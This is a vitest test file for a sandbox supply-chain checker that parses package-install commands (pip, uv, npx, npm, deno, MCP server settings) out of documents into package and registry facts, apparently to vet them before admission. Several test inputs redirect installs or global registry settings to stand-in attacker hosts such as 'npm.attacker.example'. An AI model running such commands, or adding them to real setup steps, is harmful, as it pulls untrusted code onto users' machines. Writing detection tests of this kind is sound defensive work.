import {expect, test} from 'vitest';
import type {PackageFact} from '../../../../sandbox/admission/supply-chain/dependency.ts';
import {settingsCommands, shownCommands} from '../../../../sandbox/admission/supply-chain/document-commands.ts';
import {commandFacts} from '../../../../sandbox/admission/supply-chain/install-commands.ts';

function briefly(facts: readonly PackageFact[]): string {
	return facts
		.map(fact =>
			fact.kind === 'dependency'
				? `${fact.ecosystem}:${fact.name}${fact.requirement.text && ` ${fact.requirement.text}`}`
				: fact.kind === 'index'
					? `index ${fact.url}`
					: fact.kind,
		)
		.join(', ');
}

const inCode = (command: string) => briefly(shownCommands(`\`\`\`bash\n${command}\n\`\`\`\n`));

test.each([
	['pip install requests', 'PyPI:requests'],
	['pip3 install -U "pandas>=2,<3" numpy==1.26.4', 'PyPI:pandas >=2,<3, PyPI:numpy ==1.26.4'],
	[
		'pip install torch>=2.0.0 --index-url https://packages.attacker.example/whl',
		'PyPI:torch >=2.0.0, index https://packages.attacker.example/whl',
	],
	['python3 -m pip install --user --target /tmp/x rich', 'PyPI:rich'],
	['sudo -H pip install ansible', 'PyPI:ansible'],
	['!pip install einops', 'PyPI:einops'],
	['$ pip install attrs', 'PyPI:attrs'],
	['PIP_INDEX_URL=https://i.attacker.example/simple pip install a-thing', 'index https://i.attacker.example/simple, PyPI:a-thing'],
	['pip install git+https://github.com/a/b.git', 'PyPI: git+https://github.com/a/b.git'],
	['pip install -r requirements.txt', ''],
	['pip install .', ''],
	['pip install -e ".[dev]"', ''],
	['pip install <package>', ''],
	['pip install $PIN', ''],
	['pip install --upgrade pip && pip install uv', 'PyPI:pip, PyPI:uv'],
	['pip install \\\n  first \\\n  second', 'PyPI:first, PyPI:second'],
	['uv pip install httpx', 'PyPI:httpx'],
	['uv add "fastapi>=0.100"', 'PyPI:fastapi >=0.100'],
	['uv tool install ruff@0.4.1', 'PyPI:ruff ==0.4.1'],
	['uv run --with rich --with "typer<1" script.py --with other', 'PyPI:rich, PyPI:typer <1'],
	['uvx ruff check .', 'PyPI:ruff'],
	['uvx --from some-tool@latest run-it now', 'PyPI:some-tool'],
	['pipx run cowsay moo', 'PyPI:cowsay'],
	['poetry add flask@^2', 'PyPI:flask'],
	['npx -y @scope/server@1.2.3 --port 1', 'npm:@scope/server 1.2.3'],
	['npx --yes --package some-pkg some-bin arg', 'npm:some-pkg'],
	['bunx cowsay hi', 'npm:cowsay'],
	['npm i -g pnpm@9 typescript', 'npm:pnpm 9, npm:typescript'],
	['npm install', ''],
	['npm ci', ''],
	['npm run build', ''],
	['npm install --save-dev eslint --registry https://npm.attacker.example', 'npm:eslint, index https://npm.attacker.example'],
	['npm create vite@latest my-app', 'npm:create-vite latest'],
	['npm exec some-tool -- --flag', 'npm:some-tool'],
	['yarn add lodash', 'npm:lodash'],
	['pnpm dlx degit a/b', 'npm:degit'],
	['bun add zod', 'npm:zod'],
	['deno run -A npm:cowsay@1.5.0 hi', 'npm:cowsay 1.5.0'],
	['deno run https://deno.land/x/y.ts', ''],
	['npm install https://files.attacker.example/x.tgz', 'npm: https://files.attacker.example/x.tgz'],
	['npm install owner/repo', 'npm: owner/repo'],
	['npm config set registry https://npm.attacker.example/', 'index https://npm.attacker.example/'],
	['pip config set global.index-url https://i.attacker.example/simple', 'index https://i.attacker.example/simple'],
	['cargo install ripgrep', ''],
])('reads %s', (command, expected) => {
	expect(inCode(command)).toBe(expected);
});

test('reads commands in code spans and believes a sentence only its first package', () => {
	const text = [
		'First run `pip install rich` and `npx -y cowsay`.',
		'Then pip install colourama before you start; npm install it when needed.',
		'You can use npx to run tools, and uv handles the rest.',
	].join('\n');
	expect(briefly(shownCommands(text))).toBe('PyPI:rich, npm:cowsay, PyPI:colourama');
});

test('points at the package, not at the command', () => {
	const text = 'Run:\n\n```\npip install good "evil==1"\n```\n';
	const [, evil] = shownCommands(text);
	expect(text.slice(evil?.place?.start, evil?.place?.end)).toBe('"evil==1"');
});

test('reads a server that settings start', () => {
	const json = '{"mcpServers": {"x": {"command": "npx", "args": ["-y", "some-server@1.0.0"], "env": {}}}}';
	expect(briefly(settingsCommands(json))).toBe('npm:some-server 1.0.0');
	expect(briefly(settingsCommands('command = "uvx"\nargs = ["tool-server"]'))).toBe('PyPI:tool-server');
});

test('stops at words that code does not know', () => {
	expect(commandFacts(['python', '-m', 'pip', 'install', undefined, 'known']).map(({fact}) => fact)).toMatchObject([{name: 'known'}]);
	expect(commandFacts(['pip', 'install', 'x\uFFFCy'])).toEqual([]);
});
